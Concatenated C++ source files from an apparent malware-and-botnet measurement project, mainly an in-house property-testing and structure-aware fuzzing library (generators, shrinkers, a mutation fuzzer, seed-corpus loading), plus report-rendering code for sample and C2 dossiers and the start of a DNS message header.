    os << "  - " << s.sha256.substr(0, 16) << "… (" << proto::to_string(s.label)
       << ", day " << s.day << ")\n";
  }
  if (!dossier.exploits.empty()) {
    os << "\nproliferation observed from those binaries:\n";
    render_exploits(os, dossier.exploits);
  }
  if (!dossier.attacks.empty()) {
    os << "\nattacks issued by this server:\n";
    render_attacks(os, dossier.attacks);
  }
  return os.str();
}

std::string render_dossier(const SampleDossier& dossier) {
  std::ostringstream os;
  const auto& rec = dossier.record;
  os << "=== sample dossier: " << rec.sha256.substr(0, 16) << "… ===\n";
  os << "family " << proto::to_string(rec.label) << ", collected day " << rec.day
     << " (" << util::study_date(rec.day) << ") from "
     << botnet::to_string(rec.source) << ", " << rec.vt_detections
     << " AV detections\n";
  if (rec.p2p) os << "peer-to-peer family (no central C2)\n";
  os << "\nC2 infrastructure:\n";
  for (const auto& c2 : dossier.c2s) {
    os << "  - " << c2.address << ':' << c2.port << " ("
       << (c2.ever_live() ? "observed LIVE" : "dead on analysis day") << ")\n";
  }
  if (!dossier.exploits.empty()) {
    os << "\nproliferation:\n";
    render_exploits(os, dossier.exploits);
  }
  if (!dossier.attacks.empty()) {
    os << "\nattacks this binary was commanded to launch:\n";
    render_attacks(os, dossier.attacks);
  }
  return os.str();
}

}  // namespace malnet::report
