// Seed-corpus access. The repository commits a small set of valid encoded
// messages under tests/corpus/ (Mirai/Gafgyt/Daddyl33t commands, DNS
// query/response, raw packets, a minimal pcap — regenerate with the
// malnet_make_corpus tool). Fuzz tests mutate from these entries, so every
// failure reproduces from a committed file plus a printed seed.
//
// Directory resolution: the MALNET_CORPUS_DIR environment variable if set,
// else the compile-time default baked in by CMake (the source-tree path).
#pragma once

#include <string>
#include <vector>

#include "util/bytes.hpp"

namespace malnet::testkit {

struct CorpusEntry {
  std::string name;  // file name, e.g. "mirai_attack.bin"
  util::Bytes data;
};

/// The corpus directory (see resolution rules above).
[[nodiscard]] std::string corpus_dir();

/// All regular files in `dir`, sorted by name. Throws std::runtime_error if
/// the directory is missing or empty — a silently-empty corpus would turn
/// the fuzz suite into a no-op.
[[nodiscard]] std::vector<CorpusEntry> load_corpus(const std::string& dir);

/// load_corpus(corpus_dir()).
[[nodiscard]] std::vector<CorpusEntry> load_default_corpus();

/// One corpus file by name (relative to corpus_dir()). Throws if absent.
[[nodiscard]] util::Bytes corpus_file(const std::string& name);

/// Entries whose name starts with `prefix` ("mirai_", "dns_", ...), data
/// only — the shape the mutation-fuzz drivers want.
[[nodiscard]] std::vector<util::Bytes> corpus_inputs(const std::string& prefix);

}  // namespace malnet::testkit
