#include "testkit/check.hpp"

#include <algorithm>
#include <cstdlib>
#include <iostream>
#include <optional>

#include "util/str.hpp"

namespace malnet::testkit {

namespace {

std::optional<std::uint64_t> env_u64(const char* name) {
  const char* v = std::getenv(name);
  if (!v || !*v) return std::nullopt;
  return util::parse_u64(v);
}

}  // namespace

CheckConfig CheckConfig::with_env_overrides() const {
  CheckConfig out = *this;
  if (!env_overrides) return out;
  if (const auto s = env_u64("MALNET_CHECK_SEED")) out.seed = *s;
  if (const auto c = env_u64("MALNET_FUZZ_CASES")) {
    // Cap so a typo cannot turn the CI smoke step into an hours-long run.
    out.cases = static_cast<int>(std::min<std::uint64_t>(*c, 1'000'000));
  }
  return out;
}

std::string CheckResult::summary() const {
  if (ok) return {};
  std::ostringstream os;
  os << "property failed at case " << failing_case << "/" << cases_run
     << " (seed=" << seed << "; rerun with MALNET_CHECK_SEED=" << seed << ")\n";
  if (!message.empty()) os << "  " << message << "\n";
  os << "  counterexample (after " << shrink_steps
     << " shrink steps): " << counterexample << "\n";
  if (original != counterexample) os << "  original input: " << original << "\n";
  return os.str();
}

namespace detail {

std::string describe(const util::Bytes& v) {
  std::string out = "len=" + std::to_string(v.size());
  if (!v.empty()) out += " hex=" + util::to_hex(v);
  return out;
}

std::string describe(const std::string& v) {
  std::string out = "\"";
  for (const char c : v) {
    if (c == '"' || c == '\\') {
      out += '\\';
      out += c;
    } else if (c >= 0x20 && c < 0x7F) {
      out += c;
    } else {
      static constexpr char kHex[] = "0123456789abcdef";
      out += "\\x";
      out += kHex[(static_cast<unsigned char>(c) >> 4) & 0xF];
      out += kHex[static_cast<unsigned char>(c) & 0xF];
    }
  }
  out += "\" (len=" + std::to_string(v.size()) + ")";
  return out;
}

void report_failure(const CheckResult& r, const std::string& name) {
  std::cerr << "[testkit] " << (name.empty() ? "check" : name) << ": "
            << r.summary();
}

}  // namespace detail

CheckResult check_each(const std::vector<util::Bytes>& inputs,
                       const std::function<bool(util::BytesView)>& prop,
                       std::string name) {
  CheckResult result;
  for (std::size_t i = 0; i < inputs.size(); ++i) {
    ++result.cases_run;
    std::string message;
    if (detail::holds(prop, inputs[i], &message)) continue;
    result.ok = false;
    result.failing_case = static_cast<int>(i);
    result.message = message;
    result.original = detail::describe(inputs[i]);
    result.counterexample = result.original;
    detail::report_failure(result, name);
    return result;
  }
  return result;
}

}  // namespace malnet::testkit
