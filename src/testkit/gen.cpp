#include "testkit/gen.hpp"

#include <stdexcept>

namespace malnet::testkit {

Gen<std::uint8_t> any_byte() {
  return Gen<std::uint8_t>([](util::Rng& rng) {
    return static_cast<std::uint8_t>(rng.uniform(0, 0xFF));
  });
}

Gen<util::Bytes> byte_strings(std::size_t min_len, std::size_t max_len) {
  if (min_len > max_len) {
    throw std::invalid_argument("testkit::byte_strings: min_len > max_len");
  }
  return Gen<util::Bytes>([min_len, max_len](util::Rng& rng) {
    const auto n = static_cast<std::size_t>(rng.uniform(min_len, max_len));
    util::Bytes out(n);
    for (auto& b : out) b = static_cast<std::uint8_t>(rng.uniform(0, 0xFF));
    return out;
  });
}

Gen<std::string> ascii_strings(std::size_t min_len, std::size_t max_len,
                               std::string alphabet) {
  if (min_len > max_len) {
    throw std::invalid_argument("testkit::ascii_strings: min_len > max_len");
  }
  if (alphabet.empty()) {
    throw std::invalid_argument("testkit::ascii_strings: empty alphabet");
  }
  return Gen<std::string>([min_len, max_len,
                           alphabet = std::move(alphabet)](util::Rng& rng) {
    const auto n = static_cast<std::size_t>(rng.uniform(min_len, max_len));
    std::string out(n, '\0');
    for (auto& c : out) {
      c = alphabet[static_cast<std::size_t>(rng.uniform(0, alphabet.size() - 1))];
    }
    return out;
  });
}

Gen<std::string> raw_strings(std::size_t min_len, std::size_t max_len) {
  return byte_strings(min_len, max_len).map([](const util::Bytes& b) {
    return std::string(b.begin(), b.end());
  });
}

}  // namespace malnet::testkit
