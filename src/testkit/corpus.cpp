#include "testkit/corpus.hpp"

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <stdexcept>

#ifndef MALNET_TESTKIT_CORPUS_DIR
#define MALNET_TESTKIT_CORPUS_DIR ""
#endif

namespace malnet::testkit {

namespace fs = std::filesystem;

std::string corpus_dir() {
  if (const char* env = std::getenv("MALNET_CORPUS_DIR"); env && *env) {
    return env;
  }
  return MALNET_TESTKIT_CORPUS_DIR;
}

namespace {

util::Bytes read_file(const fs::path& path) {
  std::ifstream f(path, std::ios::binary);
  if (!f) throw std::runtime_error("testkit: cannot open " + path.string());
  return util::Bytes((std::istreambuf_iterator<char>(f)),
                     std::istreambuf_iterator<char>());
}

}  // namespace

std::vector<CorpusEntry> load_corpus(const std::string& dir) {
  if (dir.empty() || !fs::is_directory(dir)) {
    throw std::runtime_error(
        "testkit: corpus directory not found: '" + dir +
        "' (set MALNET_CORPUS_DIR or run malnet_make_corpus)");
  }
  std::vector<CorpusEntry> out;
  for (const auto& entry : fs::directory_iterator(dir)) {
    if (!entry.is_regular_file()) continue;
    out.push_back(CorpusEntry{entry.path().filename().string(),
                              read_file(entry.path())});
  }
  std::sort(out.begin(), out.end(),
            [](const CorpusEntry& a, const CorpusEntry& b) { return a.name < b.name; });
  if (out.empty()) {
    throw std::runtime_error("testkit: corpus directory is empty: " + dir);
  }
  return out;
}

std::vector<CorpusEntry> load_default_corpus() { return load_corpus(corpus_dir()); }

util::Bytes corpus_file(const std::string& name) {
  return read_file(fs::path(corpus_dir()) / name);
}

std::vector<util::Bytes> corpus_inputs(const std::string& prefix) {
  std::vector<util::Bytes> out;
  for (auto& entry : load_default_corpus()) {
    if (entry.name.rfind(prefix, 0) == 0) out.push_back(std::move(entry.data));
  }
  if (out.empty()) {
    throw std::runtime_error("testkit: no corpus entries with prefix '" +
                             prefix + "'");
  }
  return out;
}

}  // namespace malnet::testkit
