// Structure-aware mutation of valid encoded messages — the fuzzing half of
// the harness. Mutator::mutate takes a well-formed wire buffer (a corpus
// entry, see corpus.hpp) and applies a small random batch of mutations:
//
//   * bit / byte flips            — classic dumb fuzzing
//   * truncation                  — the dominant real-world failure mode for
//                                   wire decoders (short reads, split TCP
//                                   segments)
//   * extension / splicing        — trailing garbage, duplicated slices
//   * length-field corruption     — finds big-endian u8/u16/u32 fields whose
//                                   value is consistent with the bytes that
//                                   follow them (length prefixes, counts)
//                                   and replaces them with boundary values
//                                   (0, 1, value±1, all-ones)
//
// The last class is what makes the mutator structure-aware: decoders almost
// never crash on random noise (magic checks reject it immediately); they
// crash when a plausible length field disagrees with the data actually
// present. All mutations draw from the caller's Rng, so a fuzz run is fully
// reproducible from its seed.
#pragma once

#include <cstdint>
#include <vector>

#include "util/bytes.hpp"
#include "util/rng.hpp"

namespace malnet::testkit {

/// A location that plausibly encodes a length/count: `width` bytes at
/// `offset`, big-endian, whose value is bounded by the bytes remaining
/// after the field.
struct LengthField {
  std::size_t offset = 0;
  int width = 1;  // 1, 2 or 4
  std::uint64_t value = 0;
};

/// Scans `data` for plausible length fields: a big-endian u16/u32 (or a u8)
/// whose value equals or is bounded by the number of bytes that follow it.
/// Heuristic by design — false positives just mean extra byte corruption,
/// which is fine for fuzzing.
[[nodiscard]] std::vector<LengthField> find_length_fields(util::BytesView data);

struct MutatorConfig {
  int min_mutations = 1;
  int max_mutations = 4;
  /// Weights for the mutation classes, in order: bit flip, byte set,
  /// truncate, extend, splice, length-field corruption.
  std::vector<double> weights{2.0, 2.0, 2.0, 1.0, 1.0, 3.0};
  std::size_t max_grow = 64;  // bytes an extension may add per mutation
};

class Mutator {
 public:
  explicit Mutator(MutatorConfig cfg = {});

  /// One mutated variant of `input`. Deterministic in the Rng state.
  [[nodiscard]] util::Bytes mutate(util::BytesView input, util::Rng& rng) const;

  // Individual mutation operators, exposed for targeted tests. Each returns
  // a fresh buffer; inputs may be empty (operators degrade to no-ops or
  // pure insertion).
  [[nodiscard]] util::Bytes flip_bit(util::BytesView in, util::Rng& rng) const;
  [[nodiscard]] util::Bytes set_byte(util::BytesView in, util::Rng& rng) const;
  [[nodiscard]] util::Bytes truncate(util::BytesView in, util::Rng& rng) const;
  [[nodiscard]] util::Bytes extend(util::BytesView in, util::Rng& rng) const;
  [[nodiscard]] util::Bytes splice(util::BytesView in, util::Rng& rng) const;
  [[nodiscard]] util::Bytes corrupt_length(util::BytesView in,
                                           util::Rng& rng) const;

 private:
  MutatorConfig cfg_;
};

}  // namespace malnet::testkit
