// Seeded generator combinators (`Gen<T>`) over util::Rng — the input half
// of the property-testing harness. A Gen<T> is a pure recipe: given an Rng
// it produces a T, so the same (seed, stream) always regenerates the same
// value sequence and every failure reproduces from its printed seed.
//
// Primitive generators cover integers, bytes, byte strings and ASCII
// strings; combinators (map, apply, one_of, weighted, vectors_of, pair_of)
// compose them into structured records. See check.hpp for the runner.
#pragma once

#include <cstdint>
#include <functional>
#include <string>
#include <tuple>
#include <utility>
#include <vector>

#include "util/bytes.hpp"
#include "util/rng.hpp"

namespace malnet::testkit {

template <typename T>
class Gen {
 public:
  using value_type = T;

  explicit Gen(std::function<T(util::Rng&)> fn) : fn_(std::move(fn)) {}

  [[nodiscard]] T operator()(util::Rng& rng) const { return fn_(rng); }

  /// Post-processes generated values: Gen<T> -> Gen<U> via U f(T).
  template <typename F>
  [[nodiscard]] auto map(F f) const {
    using U = std::invoke_result_t<F, T>;
    return Gen<U>([self = *this, f = std::move(f)](util::Rng& rng) {
      return f(self(rng));
    });
  }

 private:
  std::function<T(util::Rng&)> fn_;
};

/// Always yields `v`.
template <typename T>
[[nodiscard]] Gen<T> constant(T v) {
  return Gen<T>([v = std::move(v)](util::Rng&) { return v; });
}

/// Uniform integer in [lo, hi] inclusive, for any integral type.
template <typename T>
[[nodiscard]] Gen<T> ints(T lo, T hi) {
  static_assert(std::is_integral_v<T>);
  return Gen<T>([lo, hi](util::Rng& rng) {
    return static_cast<T>(rng.uniform_int(static_cast<std::int64_t>(lo),
                                          static_cast<std::int64_t>(hi)));
  });
}

/// One uniformly random byte.
[[nodiscard]] Gen<std::uint8_t> any_byte();

/// Uniformly random byte string with length in [min_len, max_len].
[[nodiscard]] Gen<util::Bytes> byte_strings(std::size_t min_len,
                                            std::size_t max_len);

/// Random string over `alphabet` with length in [min_len, max_len].
/// The default alphabet is printable-identifier-ish ASCII.
[[nodiscard]] Gen<std::string> ascii_strings(
    std::size_t min_len, std::size_t max_len,
    std::string alphabet =
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-");

/// Random string of arbitrary (including non-printable) characters.
[[nodiscard]] Gen<std::string> raw_strings(std::size_t min_len,
                                           std::size_t max_len);

/// Uniform pick from a fixed, non-empty list of values.
template <typename T>
[[nodiscard]] Gen<T> one_of(std::vector<T> choices) {
  if (choices.empty()) throw std::invalid_argument("testkit::one_of: empty");
  return Gen<T>([choices = std::move(choices)](util::Rng& rng) {
    return rng.pick(choices);
  });
}

/// Weighted pick: each candidate value carries a positive weight.
template <typename T>
[[nodiscard]] Gen<T> weighted(std::vector<std::pair<double, T>> choices) {
  if (choices.empty()) throw std::invalid_argument("testkit::weighted: empty");
  std::vector<double> weights;
  weights.reserve(choices.size());
  for (const auto& [w, _] : choices) weights.push_back(w);
  return Gen<T>([choices = std::move(choices),
                 weights = std::move(weights)](util::Rng& rng) {
    return choices[rng.weighted(weights)].second;
  });
}

/// Vector of `elem`-generated values with size in [min_len, max_len].
template <typename T>
[[nodiscard]] Gen<std::vector<T>> vectors_of(Gen<T> elem, std::size_t min_len,
                                             std::size_t max_len) {
  return Gen<std::vector<T>>([elem = std::move(elem), min_len,
                              max_len](util::Rng& rng) {
    const auto n = static_cast<std::size_t>(rng.uniform(min_len, max_len));
    std::vector<T> out;
    out.reserve(n);
    for (std::size_t i = 0; i < n; ++i) out.push_back(elem(rng));
    return out;
  });
}

template <typename A, typename B>
[[nodiscard]] Gen<std::pair<A, B>> pair_of(Gen<A> a, Gen<B> b) {
  return Gen<std::pair<A, B>>(
      [a = std::move(a), b = std::move(b)](util::Rng& rng) {
        // Sequence the draws explicitly: evaluation order inside a braced
        // initializer would be fine, but inside make_pair it is unspecified.
        A av = a(rng);
        B bv = b(rng);
        return std::pair<A, B>{std::move(av), std::move(bv)};
      });
}

/// Structured-record builder: draws one value from each generator, in
/// argument order, and applies `f` to them. The workhorse for generating
/// AttackCommands, DNS messages, packets, ...
template <typename F, typename... Gs>
[[nodiscard]] auto apply(F f, Gs... gens) {
  using T = std::invoke_result_t<F, typename Gs::value_type...>;
  return Gen<T>([f = std::move(f),
                 gens = std::make_tuple(std::move(gens)...)](util::Rng& rng) {
    // Draw left-to-right so generation order matches argument order.
    auto values = std::apply(
        [&rng](const auto&... g) {
          return std::tuple<typename std::decay_t<decltype(g)>::value_type...>{
              g(rng)...};
        },
        gens);
    return std::apply(f, std::move(values));
  });
}

}  // namespace malnet::testkit
