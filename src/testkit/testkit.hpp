// Umbrella header for malnet::testkit — the in-tree deterministic
// property-testing and structure-aware fuzzing library (DESIGN.md §9).
//
//   gen.hpp     seeded Gen<T> combinators over util::Rng
//   shrink.hpp  Shrink<T> counterexample minimization
//   check.hpp   check(gen, prop) runner + failure reporting
//   mutate.hpp  structure-aware wire-format mutator
//   corpus.hpp  committed seed-corpus access (tests/corpus/)
#pragma once

#include "testkit/check.hpp"    // IWYU pragma: export
#include "testkit/corpus.hpp"   // IWYU pragma: export
#include "testkit/gen.hpp"      // IWYU pragma: export
#include "testkit/mutate.hpp"   // IWYU pragma: export
#include "testkit/shrink.hpp"   // IWYU pragma: export
