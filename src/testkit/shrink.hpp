// Input shrinking for the property runner: Shrink<T>::candidates(v) yields
// strictly-simpler variants of a failing input, ordered most-aggressive
// first. check() greedily re-tests candidates and recurses on the first one
// that still fails, so counterexamples converge to a local minimum (shorter
// buffers, values closer to zero) in O(log) rounds for the common cases.
//
// Specialize Shrink<T> for project types when the defaults (integers,
// byte/char sequences, vectors) are not enough. An empty candidate list
// means "already minimal".
#pragma once

#include <concepts>
#include <cstdint>
#include <string>
#include <type_traits>
#include <vector>

#include "util/bytes.hpp"

namespace malnet::testkit {

namespace detail {

/// Sequence shrinker shared by Bytes, std::string and std::vector<T>:
/// aggressive structural cuts first (empty, halves, chunk removal), then
/// element simplification toward zero.
template <typename Seq>
std::vector<Seq> shrink_sequence(const Seq& v) {
  using Elem = typename Seq::value_type;
  std::vector<Seq> out;
  if (v.empty()) return out;

  out.push_back(Seq{});                                   // drop everything
  if (v.size() >= 2) {
    out.emplace_back(v.begin(), v.begin() + v.size() / 2);  // first half
    out.emplace_back(v.begin() + v.size() / 2, v.end());    // second half
  }
  out.emplace_back(v.begin(), v.end() - 1);               // drop last
  out.emplace_back(v.begin() + 1, v.end());               // drop first

  // Remove a middle chunk (helps when both ends are load-bearing).
  if (v.size() >= 4) {
    Seq cut(v.begin(), v.begin() + v.size() / 4);
    cut.insert(cut.end(), v.begin() + (v.size() * 3) / 4, v.end());
    out.push_back(cut);
  }

  // Simplify elements toward zero, a bounded number per round.
  if constexpr (std::equality_comparable<Elem> &&
                std::is_default_constructible_v<Elem>) {
    int budget = 8;
    for (std::size_t i = 0; i < v.size() && budget > 0; ++i) {
      if (v[i] == Elem{}) continue;
      Seq zeroed = v;
      zeroed[i] = Elem{};
      out.push_back(std::move(zeroed));
      --budget;
    }
  }
  return out;
}

}  // namespace detail

template <typename T, typename Enable = void>
struct Shrink {
  static std::vector<T> candidates(const T&) { return {}; }  // not shrinkable
};

template <typename T>
struct Shrink<T, std::enable_if_t<std::is_integral_v<T>>> {
  static std::vector<T> candidates(const T& v) {
    std::vector<T> out;
    if (v == 0) return out;
    out.push_back(0);
    if constexpr (std::is_signed_v<T>) {
      if (v < 0) out.push_back(static_cast<T>(-v));  // prefer positive
    }
    const T half = static_cast<T>(v / 2);
    if (half != v) out.push_back(half);
    const T closer = static_cast<T>(v > 0 ? v - 1 : v + 1);
    if (closer != half) out.push_back(closer);
    return out;
  }
};

template <>
struct Shrink<util::Bytes> {
  static std::vector<util::Bytes> candidates(const util::Bytes& v) {
    return detail::shrink_sequence(v);
  }
};

template <>
struct Shrink<std::string> {
  static std::vector<std::string> candidates(const std::string& v) {
    // For strings "zero" means '\0'; prefer 'a' so shrunk text stays
    // printable and pasteable into a regression test.
    auto out = detail::shrink_sequence(v);
    int budget = 8;
    for (std::size_t i = 0; i < v.size() && budget > 0; ++i) {
      if (v[i] == 'a') continue;
      std::string s = v;
      s[i] = 'a';
      out.push_back(std::move(s));
      --budget;
    }
    return out;
  }
};

template <typename T>
struct Shrink<std::vector<T>> {
  static std::vector<std::vector<T>> candidates(const std::vector<T>& v) {
    auto out = detail::shrink_sequence(v);
    // Also shrink individual elements via their own shrinker.
    int budget = 4;
    for (std::size_t i = 0; i < v.size() && budget > 0; ++i) {
      for (auto& cand : Shrink<T>::candidates(v[i])) {
        std::vector<T> copy = v;
        copy[i] = std::move(cand);
        out.push_back(std::move(copy));
        if (--budget == 0) break;
      }
    }
    return out;
  }
};

}  // namespace malnet::testkit
