// The property runner: check(gen, prop, cfg) draws cfg.cases inputs from
// `gen` under a deterministic seed, evaluates the property on each, and on
// the first failure shrinks the input to a (locally) minimal counterexample
// via Shrink<T>.
//
// Reproducibility contract: every case i is generated from
// util::Rng(cfg.seed, 2 * i + 1), so re-running the same check with the
// same seed regenerates the identical input sequence byte-for-byte — the
// printed "seed=… case=…" line is a complete repro recipe. Seed and case
// count can be overridden without recompiling via the MALNET_CHECK_SEED and
// MALNET_FUZZ_CASES environment variables (the CI fuzz-smoke step uses
// these to pin a fixed seed and a bounded case count).
//
// A property is any callable T -> bool; returning false or throwing any
// exception counts as a failure (the exception text is captured).
#pragma once

#include <cstdint>
#include <exception>
#include <functional>
#include <sstream>
#include <string>
#include <typeinfo>
#include <vector>

#include "testkit/gen.hpp"
#include "testkit/shrink.hpp"
#include "util/bytes.hpp"
#include "util/rng.hpp"

namespace malnet::testkit {

struct CheckConfig {
  /// Base seed for the whole run. The default is arbitrary but fixed;
  /// MALNET_CHECK_SEED overrides it.
  std::uint64_t seed = 0x6d616c746b69ULL;  // "maltki"
  /// Cases to run; MALNET_FUZZ_CASES overrides (capped, see check.cpp).
  int cases = 500;
  /// Safety bound on greedy shrink iterations.
  int max_shrink_steps = 10'000;
  std::string name;  // label used in the printed failure report
  /// Honour MALNET_CHECK_SEED / MALNET_FUZZ_CASES. Tests of the harness
  /// itself pin this off so ambient overrides cannot change their fixtures.
  bool env_overrides = true;

  /// Applies MALNET_CHECK_SEED / MALNET_FUZZ_CASES if set (and enabled).
  [[nodiscard]] CheckConfig with_env_overrides() const;
};

struct CheckResult {
  bool ok = true;
  int cases_run = 0;
  std::uint64_t seed = 0;       // seed the run used (repro: set MALNET_CHECK_SEED)
  int failing_case = -1;        // index of the first failing case
  std::string counterexample;   // printed form of the shrunk failing input
  std::string original;         // printed form of the unshrunk failing input
  int shrink_steps = 0;
  std::string message;          // exception text, if the property threw

  /// One-paragraph failure report (empty string when ok).
  [[nodiscard]] std::string summary() const;
};

namespace detail {

/// Renders a value for the failure report. Bytes render as "len=N hex=…",
/// strings as escaped quotes, streamables via operator<<.
std::string describe(const util::Bytes& v);
std::string describe(const std::string& v);

template <typename T>
std::string describe(const T& v) {
  if constexpr (requires(std::ostringstream& os) { os << v; }) {
    std::ostringstream os;
    os << v;
    return os.str();
  } else {
    return "<" + std::string(typeid(T).name()) + ">";
  }
}

template <typename T>
std::string describe(const std::vector<T>& v) {
  std::ostringstream os;
  os << "[";
  for (std::size_t i = 0; i < v.size(); ++i) {
    if (i) os << ", ";
    os << describe(v[i]);
  }
  os << "]";
  return os.str();
}

/// Runs the property, mapping exceptions to failure + captured message.
template <typename T, typename Prop>
bool holds(const Prop& prop, const T& value, std::string* message) {
  try {
    return prop(value);
  } catch (const std::exception& e) {
    if (message) *message = std::string("threw: ") + e.what();
    return false;
  } catch (...) {
    if (message) *message = "threw: <non-std exception>";
    return false;
  }
}

void report_failure(const CheckResult& r, const std::string& name);

}  // namespace detail

template <typename T, typename Prop>
[[nodiscard]] CheckResult check(const Gen<T>& gen, Prop prop,
                                CheckConfig cfg = {}) {
  cfg = cfg.with_env_overrides();
  CheckResult result;
  result.seed = cfg.seed;

  for (int i = 0; i < cfg.cases; ++i) {
    // Stream 2i+1: odd streams keep the PCG increment derivation distinct
    // from util code that forks streams by name, and index-keyed streams
    // let a failing case be regenerated without replaying earlier cases.
    util::Rng rng(cfg.seed, 2 * static_cast<std::uint64_t>(i) + 1);
    T value = gen(rng);
    ++result.cases_run;

    std::string message;
    if (detail::holds(prop, value, &message)) continue;

    result.ok = false;
    result.failing_case = i;
    result.message = message;
    result.original = detail::describe(value);

    // Greedy shrink: take the first candidate that still fails, repeat.
    bool progressed = true;
    while (progressed && result.shrink_steps < cfg.max_shrink_steps) {
      progressed = false;
      for (auto& cand : Shrink<T>::candidates(value)) {
        ++result.shrink_steps;
        if (result.shrink_steps >= cfg.max_shrink_steps) break;
        std::string shrink_msg;
        if (!detail::holds(prop, cand, &shrink_msg)) {
          value = std::move(cand);
          result.message = shrink_msg.empty() ? result.message : shrink_msg;
          progressed = true;
          break;
        }
      }
    }
    result.counterexample = detail::describe(value);
    detail::report_failure(result, cfg.name);
    return result;
  }
  return result;
}

/// Bytes-in property over an explicit list of inputs (corpus entries,
/// regression cases): no generation, but the same failure reporting.
[[nodiscard]] CheckResult check_each(
    const std::vector<util::Bytes>& inputs,
    const std::function<bool(util::BytesView)>& prop, std::string name = {});

}  // namespace malnet::testkit
