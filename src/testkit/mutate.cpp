#include "testkit/mutate.hpp"

#include <algorithm>
#include <stdexcept>

namespace malnet::testkit {

namespace {

std::uint64_t read_be(util::BytesView data, std::size_t off, int width) {
  std::uint64_t v = 0;
  for (int i = 0; i < width; ++i) v = (v << 8) | data[off + static_cast<std::size_t>(i)];
  return v;
}

void write_be(util::Bytes& data, std::size_t off, int width, std::uint64_t v) {
  for (int i = width - 1; i >= 0; --i) {
    data[off + static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(v);
    v >>= 8;
  }
}

}  // namespace

std::vector<LengthField> find_length_fields(util::BytesView data) {
  std::vector<LengthField> out;
  for (std::size_t off = 0; off < data.size(); ++off) {
    for (const int width : {2, 4, 1}) {
      if (off + static_cast<std::size_t>(width) > data.size()) continue;
      const std::uint64_t v = read_be(data, off, width);
      const std::size_t after = data.size() - off - static_cast<std::size_t>(width);
      // A zero "length" matches everywhere and carries no structure; a value
      // larger than the rest of the buffer cannot be a satisfied length.
      if (v == 0 || v > after) continue;
      out.push_back(LengthField{off, width, v});
      break;  // widest plausible interpretation wins at this offset
    }
  }
  return out;
}

Mutator::Mutator(MutatorConfig cfg) : cfg_(std::move(cfg)) {
  if (cfg_.weights.size() != 6) {
    throw std::invalid_argument("Mutator: expected 6 mutation weights");
  }
  if (cfg_.min_mutations < 1 || cfg_.max_mutations < cfg_.min_mutations) {
    throw std::invalid_argument("Mutator: bad mutation count range");
  }
}

util::Bytes Mutator::flip_bit(util::BytesView in, util::Rng& rng) const {
  util::Bytes out(in.begin(), in.end());
  if (out.empty()) return out;
  const auto pos = static_cast<std::size_t>(rng.uniform(0, out.size() - 1));
  out[pos] ^= static_cast<std::uint8_t>(1u << rng.uniform(0, 7));
  return out;
}

util::Bytes Mutator::set_byte(util::BytesView in, util::Rng& rng) const {
  util::Bytes out(in.begin(), in.end());
  if (out.empty()) return out;
  const auto pos = static_cast<std::size_t>(rng.uniform(0, out.size() - 1));
  // Boundary bytes dominate: 0x00/0xFF/0x7F/0x80 trip sign, terminator and
  // magic-number assumptions far more often than uniform noise.
  static constexpr std::uint8_t kBoundary[] = {0x00, 0x01, 0x7F, 0x80, 0xFF};
  out[pos] = rng.chance(0.6)
                 ? kBoundary[rng.uniform(0, std::size(kBoundary) - 1)]
                 : static_cast<std::uint8_t>(rng.uniform(0, 0xFF));
  return out;
}

util::Bytes Mutator::truncate(util::BytesView in, util::Rng& rng) const {
  if (in.empty()) return {};
  // Bias toward cutting near the end — off-by-one tails are the classic
  // decoder bug — but allow arbitrary cuts, including to empty.
  const std::size_t keep =
      rng.chance(0.5) ? in.size() - 1 - rng.uniform(0, std::min<std::size_t>(3, in.size() - 1))
                      : static_cast<std::size_t>(rng.uniform(0, in.size() - 1));
  return util::Bytes(in.begin(), in.begin() + static_cast<std::ptrdiff_t>(keep));
}

util::Bytes Mutator::extend(util::BytesView in, util::Rng& rng) const {
  util::Bytes out(in.begin(), in.end());
  const auto extra = static_cast<std::size_t>(rng.uniform(1, cfg_.max_grow));
  for (std::size_t i = 0; i < extra; ++i) {
    out.push_back(static_cast<std::uint8_t>(rng.uniform(0, 0xFF)));
  }
  return out;
}

util::Bytes Mutator::splice(util::BytesView in, util::Rng& rng) const {
  if (in.size() < 2) return extend(in, rng);
  // Duplicate a random slice of the input at a random insertion point:
  // repeats records/options/labels while keeping byte content valid-looking.
  const auto a = static_cast<std::size_t>(rng.uniform(0, in.size() - 1));
  const auto b = static_cast<std::size_t>(rng.uniform(0, in.size() - 1));
  const std::size_t lo = std::min(a, b), hi = std::max(a, b) + 1;
  const auto at = static_cast<std::size_t>(rng.uniform(0, in.size()));
  util::Bytes out(in.begin(), in.begin() + static_cast<std::ptrdiff_t>(at));
  out.insert(out.end(), in.begin() + static_cast<std::ptrdiff_t>(lo),
             in.begin() + static_cast<std::ptrdiff_t>(hi));
  out.insert(out.end(), in.begin() + static_cast<std::ptrdiff_t>(at), in.end());
  return out;
}

util::Bytes Mutator::corrupt_length(util::BytesView in, util::Rng& rng) const {
  const auto fields = find_length_fields(in);
  if (fields.empty()) return set_byte(in, rng);
  const auto& f = fields[static_cast<std::size_t>(rng.uniform(0, fields.size() - 1))];
  const std::uint64_t all_ones = (1ULL << (8 * f.width)) - 1;
  std::vector<std::uint64_t> candidates;
  for (const std::uint64_t v :
       {std::uint64_t{0}, std::uint64_t{1}, f.value + 1, f.value - 1, all_ones,
        all_ones - 1}) {
    // Writing the original value back would be a no-op mutation.
    if ((v & all_ones) != f.value) candidates.push_back(v);
  }
  util::Bytes out(in.begin(), in.end());
  write_be(out, f.offset, f.width,
           candidates[rng.uniform(0, candidates.size() - 1)]);
  return out;
}

util::Bytes Mutator::mutate(util::BytesView input, util::Rng& rng) const {
  util::Bytes out(input.begin(), input.end());
  const auto n = static_cast<int>(
      rng.uniform(static_cast<std::uint64_t>(cfg_.min_mutations),
                  static_cast<std::uint64_t>(cfg_.max_mutations)));
  for (int i = 0; i < n; ++i) {
    switch (rng.weighted(cfg_.weights)) {
      case 0: out = flip_bit(out, rng); break;
      case 1: out = set_byte(out, rng); break;
      case 2: out = truncate(out, rng); break;
      case 3: out = extend(out, rng); break;
      case 4: out = splice(out, rng); break;
      default: out = corrupt_length(out, rng); break;
    }
  }
  return out;
}

}  // namespace malnet::testkit
