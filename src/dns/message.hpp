// DNS wire format (RFC 1035 subset): header, QD question, A/NXDOMAIN
// answers. Enough for malware C2 resolution, InetSim's wildcard DNS, and
// the DNS-flood DDoS traffic the paper observes.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

